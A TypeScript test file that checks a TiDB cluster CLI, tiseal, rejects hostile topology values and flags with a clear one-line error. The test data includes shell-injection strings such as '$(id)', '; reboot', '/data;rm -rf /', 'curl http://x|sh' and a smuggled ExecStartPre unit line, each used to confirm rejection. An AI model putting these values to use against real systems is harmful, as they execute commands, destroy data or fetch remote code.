/**
 * The hostile-input battery (issue #11): the CLI, run in-process, on topology values and flags an
 * attacker or a typo could supply. Every row must end with exit code N, exactly one `error:` line
 * naming the input, a `suggestion:` line, no "bug in tiseal", and nothing written anywhere in a
 * private temp tree (HOME, cwd, state dir) except inside the state dir's own cluster folder.
 * Every host is 127.0.0.1 with SSH port 1 (closed), so nothing leaves the machine even if a check
 * is missing; validation must reject before any connection anyway.
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { tiseal } from '../support/cli';

const BASE = [
  'global:',
  '  user: tidb',
  '  ssh_port: 1',
  '  deploy_dir: /tidb-deploy',
  '  data_dir: /tidb-data',
  'pd_servers:',
  '  - host: 127.0.0.1',
  'tikv_servers:',
  '  - host: 127.0.0.1',
  'tidb_servers:',
  '  - host: 127.0.0.1',
  'tiflash_servers:',
  '  - host: 127.0.0.1',
  'cdc_servers:',
  '  - host: 127.0.0.1',
].join('\n');

/** BASE with extra lines after the first entry of a section (or after `global:`). */
function topo(section: string, ...lines: string[]): string {
  const head = section === 'global' ? 'global:' : `${section}:\n  - host: 127.0.0.1`;
  if (!BASE.includes(head)) return `${BASE}\n${section}:\n${lines.join('\n')}\n`;
  return BASE.replace(head, [head, ...lines].join('\n')) + '\n';
}
/** BASE with the first host of a section replaced. */
const host = (section: string, value: string) => BASE.replace(`${section}:\n  - host: 127.0.0.1`, `${section}:\n  - host: ${value}`) + '\n';

interface Row {
  name: string;
  /** Topology text; BASE when absent. A function gets the temp root (for files named in it). */
  yaml?: string;
  /** Verb and flags; {T} is the topology file, {S} the state dir, {K} known_hosts, {R} the temp root. */
  args?: string[];
  code: number;
  /** Substrings the one error line must hold (the input it names). */
  names: string[];
  /** Where in the topology the error must point: first occurrence of this text (file:line:column). */
  at?: string;
  /** Files to create under the temp root before the run: relative path → content (null: a directory). */
  files?: Record<string, string | null>;
}

const ENABLE = ['tls', 'enable', '{T}', '--yes', '--state-dir', '{S}', '--known-hosts', '{K}'];
const enable = (...extra: string[]) => [...ENABLE, ...extra];

const ROWS: Row[] = [
  // Hosts: a shell, an SSH target and a certificate SAN.
  { name: 'host is a command substitution', yaml: host('pd_servers', '"$(id)"'), code: 1, at: '$(id)', names: ['$(id)'] },
  { name: 'host with a ; command', yaml: host('tikv_servers', '"10.0.0.1; reboot"'), code: 1, at: '10.0.0.1; reboot', names: ['10.0.0.1; reboot'] },
  { name: 'host with backticks', yaml: host('tidb_servers', '"`id`"'), code: 1, at: '`id`', names: ['`id`'] },
  { name: 'host with a line break', yaml: host('cdc_servers', '"a\\nb"'), code: 1, at: '"a\\nb"', names: ['control character'] },
  { name: 'host with a space', yaml: host('tiflash_servers', '"db 1"'), code: 1, at: 'db 1', names: ['db 1'] },
  { name: 'host that is not an IPv4 address', yaml: host('pd_servers', '256.1.1.1'), code: 1, at: '256.1.1.1', names: ['256.1.1.1'] },
  { name: 'manage_host with $()', yaml: topo('pd_servers', '    manage_host: "$(reboot)"'), code: 1, at: '$(reboot)', names: ['$(reboot)'] },
  { name: 'listen_host with an option', yaml: topo('tikv_servers', '    listen_host: "0.0.0.0 --evil"'), code: 1, at: '0.0.0.0 --evil', names: ['0.0.0.0 --evil'] },
  { name: 'global listen_host with $', yaml: topo('global', '  listen_host: "$HOST"'), code: 1, at: '$HOST', names: ['$HOST'] },
  // Directories: root runs mkdir/chown/mv with them; they land in scripts, units and TOML.
  { name: 'global deploy_dir with a space', yaml: BASE.replace('/tidb-deploy', '"/tidb deploy"') + '\n', code: 1, at: '"/tidb deploy"', names: ['/tidb deploy'] },
  { name: 'global deploy_dir with $()', yaml: BASE.replace('/tidb-deploy', '"/tidb-$(id)"') + '\n', code: 1, at: '"/tidb-$(id)"', names: ['$(id)'] },
  { name: 'global data_dir relative with ;', yaml: BASE.replace('/tidb-data', '"data;id"') + '\n', code: 1, at: '"data;id"', names: ['data;id'] },
  { name: 'global log_dir with a quote', yaml: topo('global', `  log_dir: "/var/log/it's"`), code: 1, at: '"/var/log/it', names: ["it's"] },
  { name: 'instance deploy_dir with ..', yaml: topo('pd_servers', '    deploy_dir: /tidb-deploy/../etc'), code: 1, at: '/tidb-deploy/../etc', names: ['..'] },
  { name: 'instance data_dir with a command', yaml: topo('tikv_servers', '    data_dir: "/data;rm -rf /"'), code: 1, at: '/data;rm -rf /', names: ['/data;rm -rf /'] },
  { name: 'instance log_dir with backticks', yaml: topo('tidb_servers', '    log_dir: "/var/log/`id`"'), code: 1, at: '"/var/log/`id`"', names: ['`id`'] },
  { name: 'relative deploy_dir escaping home', yaml: topo('cdc_servers', '    deploy_dir: ../../etc/cdc'), code: 1, at: '../../etc/cdc', names: ['../../etc/cdc'] },
  { name: 'tiflash data_dir list with a space', yaml: topo('tiflash_servers', '    data_dir: "/a,b c"'), code: 1, at: '"/a,b c"', names: ['b c'] },
  { name: 'tiflash storage dir with $()', yaml: topo('tiflash_servers', '    config:', '      storage.main.dir: ["/d/$(id)"]'), code: 1, at: 'storage.main.dir', names: ['$(id)'] },
  { name: 'tiflash tmp_path with a space', yaml: topo('tiflash_servers', '    tmp_path: "/tmp/x y"'), code: 1, at: '/tmp/x y', names: ['/tmp/x y'] },
  { name: 'monitored deploy_dir with a quote', yaml: `${BASE}\nmonitored:\n  deploy_dir: "/mon'x"\n`, code: 1, at: '/mon\'x', names: ["/mon'x"] },
  { name: 'monitored log_dir with a line break', yaml: `${BASE}\nmonitored:\n  log_dir: "/mon\\nx"\n`, code: 1, at: '"/mon', names: ['control character'] },
  // Values that reach run scripts.
  { name: 'numa_node with a command', yaml: topo('pd_servers', '    numa_node: "0 ; curl http://x|sh ;"'), code: 1, at: '"0 ; curl', names: ['numa_node'] },
  { name: 'numa_cores with a command', yaml: topo('tikv_servers', '    numa_node: "0"', '    numa_cores: "0-3;id"'), code: 1, at: '0-3;id', names: ['0-3;id'] },
  { name: 'monitored numa_node with $()', yaml: `${BASE}\nmonitored:\n  numa_node: "$(id)"\n`, code: 1, at: '$(id)', names: ['$(id)'] },
  { name: 'ticdc_cluster_id with a space', yaml: topo('cdc_servers', '    ticdc_cluster_id: "a b"'), code: 1, at: 'a b', names: ['a b'] },
  { name: 'ticdc_cluster_id reserved by TiCDC', yaml: topo('cdc_servers', '    ticdc_cluster_id: owner'), code: 1, at: 'owner', names: ['owner'] },
  { name: 'cdc tz with a quote', yaml: topo('cdc_servers', '    tz: \'UTC"; id; "\''), code: 1, at: '\'UTC', names: ['UTC'] },
  { name: 'PD name that splits --initial-cluster', yaml: topo('pd_servers', '    name: "pd,x=http://evil:2380"'), code: 1, at: 'pd,x=', names: ['pd,x='] },
  { name: 'advertise address with an option', yaml: topo('pd_servers', '    advertise_client_addr: "http://x:2379 --evil"'), code: 1, at: '"http://x:2379', names: ['--evil'] },
  // Values that reach a unit file or a TOML.
  { name: 'global user with a command', yaml: BASE.replace('user: tidb', 'user: "root;id"') + '\n', code: 1, at: 'root;id', names: ['root;id'] },
  { name: 'global group with a space', yaml: topo('global', '  group: "a b"'), code: 1, at: 'a b', names: ['a b'] },
  { name: 'resource_control value with a unit line', yaml: topo('global', '  resource_control:', '    memory_limit: "1G\\nExecStartPre=/bin/sh -c id"'), code: 1, at: '"1G', names: ['control character'] },
  { name: 'server_configs.tikv is a scalar', yaml: `${BASE}\nserver_configs:\n  tikv: "[security]"\n`, code: 1, at: '"[security]"', names: ['server_configs.tikv'] },
  // Directories that overlap: PD's data dir is moved at scale-in and removed if a re-add fails.
  { name: 'TiKV data dir inside the PD data dir', yaml: topo('pd_servers', '    data_dir: /data1').replace('tikv_servers:\n  - host: 127.0.0.1', 'tikv_servers:\n  - host: 127.0.0.1\n    data_dir: /data1/tikv-20160'), code: 1, at: '/data1/tikv-20160', names: ['/data1/tikv-20160', '/data1'] },
  { name: 'data dir inside another instance deploy dir', yaml: topo('tikv_servers', '    data_dir: /tidb-deploy/pd-2379/kv'), code: 1, at: '/tidb-deploy/pd-2379/kv', names: ['/tidb-deploy/pd-2379'] },
  { name: 'data dir that holds its own deploy dir', yaml: topo('pd_servers', '    data_dir: /tidb-deploy'), code: 1, at: 'data_dir: >>/tidb-deploy', names: ['/tidb-deploy'] },
  { name: 'log dir inside a data dir', yaml: topo('tidb_servers', '    log_dir: /tidb-data/tikv-20160/log'), code: 1, at: '/tidb-data/tikv-20160/log', names: ['/tidb-data/tikv-20160'] },
  { name: 'two instances share a data dir', yaml: topo('tikv_servers', '    data_dir: /tidb-data/pd-2379'), code: 1, at: 'data_dir: >>/tidb-data/pd-2379', names: ['/tidb-data/pd-2379'] },
  // Broken files and structure.
  { name: 'port conflict', yaml: topo('tikv_servers', '    port: 2379'), code: 1, at: 'port: >>2379', names: ['port conflict'] },
  { name: 'ssh_port out of range', yaml: BASE.replace('ssh_port: 1', 'ssh_port: 70000') + '\n', code: 1, at: '70000', names: ['70000'] },
  { name: 'YAML syntax error', yaml: 'pd_servers:\n  - host: 127.0.0.1\n   client_port: 2379\n', code: 1, at: 'client_port', names: ['invalid YAML'] },
  { name: 'empty topology', yaml: '', code: 1, at: '', names: ['empty'] },
  { name: 'pd_servers is not a list', yaml: 'pd_servers: 127.0.0.1\n', code: 1, at: '127.0.0.1', names: ['pd_servers'] },
  { name: 'topology file missing', args: ['tls', 'enable', '{R}/none.yaml', '--yes', '--state-dir', '{S}', '--known-hosts', '{K}'], code: 1, names: ['{R}/none.yaml'] },
  { name: 'topology path is a directory', args: ['tls', 'enable', '{R}/dir.yaml', '--yes', '--state-dir', '{S}', '--known-hosts', '{K}'], files: { 'dir.yaml': null }, code: 1, names: ['{R}/dir.yaml', 'directory'] },
  // Flags (checked at parse time or in preflight, before any host is touched).
  { name: '--cert-days above 36500', args: enable('--cert-days', '99999'), code: 2, names: ['--cert-days', '99999'] },
  { name: '--cert-days not a number', args: enable('--cert-days', 'ten'), code: 2, names: ['--cert-days', 'ten'] },
  { name: '--ca-days above 36500', args: enable('--ca-days', '40000'), code: 2, names: ['--ca-days', '40000'] },
  { name: '--extra-san with a space', args: enable('--extra-san', 'a b'), code: 2, names: ['--extra-san', 'a b'] },
  { name: '--extra-san with a line break', args: enable('--extra-san', 'x\ny'), code: 2, names: ['--extra-san'] },
  { name: '--extra-san with $()', args: enable('--extra-san', '$(id).example.com'), code: 2, names: ['--extra-san', '$(id)'] },
  { name: '--ca-cert missing file', args: enable('--ca-cert', '{R}/none.crt', '--ca-key', '{R}/ca.key'), files: { 'ca.key': 'garbage\n' }, code: 1, names: ['{R}/none.crt'] },
  { name: '--ca-cert garbage', args: enable('--ca-cert', '{R}/ca.crt', '--ca-key', '{R}/ca.key'), files: { 'ca.crt': 'not a certificate\n', 'ca.key': 'garbage\n' }, code: 1, names: ['{R}/ca.crt'] },
  { name: '--ca-cert without --ca-key', args: enable('--ca-cert', '{R}/ca.crt'), files: { 'ca.crt': 'x\n' }, code: 2, names: ['--ca-key'] },
  { name: '--state-dir is a file', args: ['tls', 'enable', '{T}', '--yes', '--state-dir', '{R}/state-file', '--known-hosts', '{K}'], files: { 'state-file': 'x' }, code: 1, names: ['{R}/state-file'] },
  { name: '--known-hosts is a directory', args: ['tls', 'enable', '{T}', '--yes', '--state-dir', '{S}', '--known-hosts', '{R}/kh-dir'], files: { 'kh-dir': null }, code: 1, names: ['--known-hosts', '{R}/kh-dir'] },
  { name: '--identity-file missing', args: enable('-i', '{R}/no-key'), code: 1, names: ['{R}/no-key'] },
  { name: '--ssh-config is a directory', args: enable('--ssh-config', '{R}/cfg-dir'), files: { 'cfg-dir': null }, code: 1, names: ['--ssh-config', '{R}/cfg-dir'] },
  { name: '--concurrency 0', args: enable('--concurrency', '0'), code: 2, names: ['--concurrency', '0'] },
  { name: '--concurrency not a number', args: enable('-c', 'lots'), code: 2, names: ['--concurrency', 'lots'] },
  { name: '--key-type dsa', args: enable('--key-type', 'dsa'), code: 2, names: ['--key-type', 'dsa'] },
  { name: '--schedule unknown', args: enable('--schedule', 'fast'), code: 2, names: ['--schedule', 'fast'] },
  { name: '--ssh-port not a port', args: enable('--ssh-port', '70000'), code: 2, names: ['--ssh-port', '70000'] },
  { name: '--cluster-name escaping the state dir', args: enable('--cluster-name', '../../etc'), code: 2, names: ['../../etc'] },
  { name: 'cert client --cn with a line break', args: ['cert', 'client', '{T}', '--cn', 'a\nb', '--out', '{R}/out', '--state-dir', '{S}', '--known-hosts', '{K}'], code: 2, names: ['--cn'] },
  { name: 'encrypt enable --method unknown', args: ['encrypt', 'enable', '{T}', '--yes', '--method', 'rot13', '--state-dir', '{S}', '--known-hosts', '{K}'], code: 2, names: ['--method', 'rot13'] },
  { name: 'encrypt enable --master-key-file garbage', args: ['encrypt', 'enable', '{T}', '--yes', '--master-key-file', '{R}/mk', '--state-dir', '{S}', '--known-hosts', '{K}'], files: { mk: 'not hex\n' }, code: 2, names: ['{R}/mk'] },
  { name: 'audit --fail-on unknown', args: ['audit', '{T}', '--fail-on', 'maybe', '--state-dir', '{S}', '--known-hosts', '{K}'], code: 2, names: ['--fail-on', 'maybe'] },
];

type Snapshot = Map<string, string>;

/** Every path under root with its kind, size, mode and content hash (files), sorted. */
function snapshot(root: string): Snapshot {
  const out: Snapshot = new Map();
  const walk = (dir: string) => {
    for (const name of fs.readdirSync(dir)) {
      const p = path.join(dir, name);
      const st = fs.lstatSync(p);
      if (st.isDirectory()) {
        out.set(p, `dir ${st.mode}`);
        walk(p);
      } else {
        out.set(p, `${st.isSymbolicLink() ? 'link' : 'file'} ${st.mode} ${st.size} ${st.isFile() ? fs.readFileSync(p).toString('base64') : fs.readlinkSync(p)}`);
      }
    }
  };
  walk(root);
  return out;
}

/** Paths created, changed or removed, except inside `allowed` (and `allowed`'s own ancestors as directories). */
function changesOutside(before: Snapshot, after: Snapshot, allowed: string): string[] {
  const inside = (p: string) => p === allowed || p.startsWith(allowed + path.sep) || (allowed.startsWith(p + path.sep) && after.get(p)?.startsWith('dir'));
  const paths = new Set([...before.keys(), ...after.keys()]);
  return [...paths].filter((p) => before.get(p) !== after.get(p) && !inside(p)).sort();
}

describe('hostile inputs: one-line error, a suggestion, exit code, nothing written', () => {
  let root: string;
  let savedHome: string | undefined;
  let savedCwd: string;
  beforeAll(() => {
    root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tiseal-hostile-')));
    savedHome = process.env.HOME;
    savedCwd = process.cwd();
  });
  afterAll(() => {
    process.chdir(savedCwd);
    if (savedHome === undefined) delete process.env.HOME;
    else process.env.HOME = savedHome;
    fs.rmSync(root, { recursive: true, force: true });
  });

  test('the battery has at least 40 rows with distinct names', () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(40);
    expect(new Set(ROWS.map((r) => r.name)).size).toBe(ROWS.length);
  });

  test.each(ROWS.map((r, n) => [r.name, r, n] as [string, Row, number]))('%s', async (_name, row, n) => {
    // A fresh tree per row: HOME (with ~/.ssh), the working directory, the state dir.
    const R = path.join(root, `case-${n}`);
    const home = path.join(R, 'home');
    fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
    const S = path.join(R, 'state');
    const K = path.join(home, '.ssh', 'known_hosts');
    fs.writeFileSync(K, '');
    const T = path.join(R, 'cluster.yaml');
    fs.writeFileSync(T, row.yaml ?? `${BASE}\n`);
    for (const [f, content] of Object.entries(row.files ?? {})) {
      if (content === null) fs.mkdirSync(path.join(R, f));
      else fs.writeFileSync(path.join(R, f), content);
    }
    const fill = (s: string) => s.replace(/{T}/g, T).replace(/{S}/g, S).replace(/{K}/g, K).replace(/{R}/g, R);
    process.env.HOME = home;
    process.chdir(R);
    const before = snapshot(R);
    const r = await tiseal(...(row.args ?? ENABLE).map(fill));
    process.chdir(savedCwd);

    const lines = r.err.split('\n').filter((l) => l !== '');
    const errorLines = lines.filter((l) => l.startsWith('error: '));
    const report = `stderr:\n${r.err}\nstdout:\n${r.out}`;
    expect({ code: r.code, report }).toEqual({ code: row.code, report });
    expect(errorLines).toHaveLength(1);
    for (const want of row.names.map(fill)) expect(errorLines[0]).toContain(want);
    if (row.at !== undefined) {
      // "key: >>value" points at value after key; a quoted value starts at its opening quote.
      const text = row.yaml ?? '';
      const [pre, val] = row.at.includes('>>') ? row.at.split('>>') : ['', row.at];
      let at = text.indexOf(pre + val) + pre.length;
      if (at > 0 && `"'`.includes(text[at - 1])) at--;
      const before = text.slice(0, at);
      const line = before.split('\n').length;
      const column = before.length - before.lastIndexOf('\n');
      expect(text.includes(pre + val)).toBe(true);
      expect(errorLines[0]).toContain(`${T}:${line}:${column}:`);
    }
    expect(lines.some((l) => /^\s*suggestion: \S/.test(l))).toBe(true);
    expect(r.err + r.out).not.toMatch(/bug in tiseal/);
    expect(changesOutside(before, snapshot(R), path.join(S, 'clusters', 'cluster'))).toEqual([]);
  });
});
